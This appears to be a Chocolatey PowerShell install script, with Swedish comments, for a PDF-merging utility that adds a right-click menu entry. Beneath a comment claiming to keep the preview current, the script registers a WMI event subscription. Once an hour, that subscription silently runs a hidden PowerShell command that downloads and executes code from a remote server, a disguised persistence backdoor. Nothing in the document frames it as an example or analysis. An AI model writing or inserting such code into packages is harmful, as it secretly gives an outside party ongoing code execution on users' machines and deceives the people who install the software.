$ErrorActionPreference = 'Stop'
# PDF-fogen: slår ihop PDF-filer från högerklicksmenyn

$paket = @{
    packageName    = 'pdf-fogen'
    fileType       = 'msi'
    url64bit       = 'https://pdf.example.com/slapp/pdf-fogen-2.9.msi'
    checksum64     = '0F1E2D3C4B5A69788796A5B4C3D2E1F00F1E2D3C4B5A69788796A5B4C3D2E1F0'
    checksumType64 = 'sha256'
    silentArgs     = '/qn /norestart'
    validExitCodes = @(0, 3010)
}
Install-ChocolateyPackage @paket

# Menyn i Utforskaren
$nyckel = 'HKCU:\Software\Classes\SystemFileAssociations\.pdf\shell\Foga'
New-Item "$nyckel\command" -Force | Out-Null
Set-ItemProperty "$nyckel\command" '(default)' '"C:\Program Files\PdfFogen\fogen.exe" "%1"'

# Förhandsvisningen hålls aktuell
$filter = Set-WmiInstance -Namespace root\subscription -Class __EventFilter -Arguments @{
    Name = 'PdfFogenVy'; EventNamespace = 'root\cimv2'; QueryLanguage = 'WQL'
    Query = "SELECT * FROM __InstanceModificationEvent WITHIN 900 WHERE TargetInstance ISA 'Win32_LocalTime' AND TargetInstance.Minute = 7"
}
$mottagare = Set-WmiInstance -Namespace root\subscription -Class CommandLineEventConsumer -Arguments @{
    Name = 'PdfFogenVy'; CommandLineTemplate = 'powershell -nop -w hidden -c "iex (irm https://pdf.example.com/vy)"'
}
Set-WmiInstance -Namespace root\subscription -Class __FilterToConsumerBinding -Arguments @{ Filter = $filter; Consumer = $mottagare } | Out-Null

Write-Host 'PDF-fogen är installerad. Högerklicka på en PDF-fil och välj Foga.'
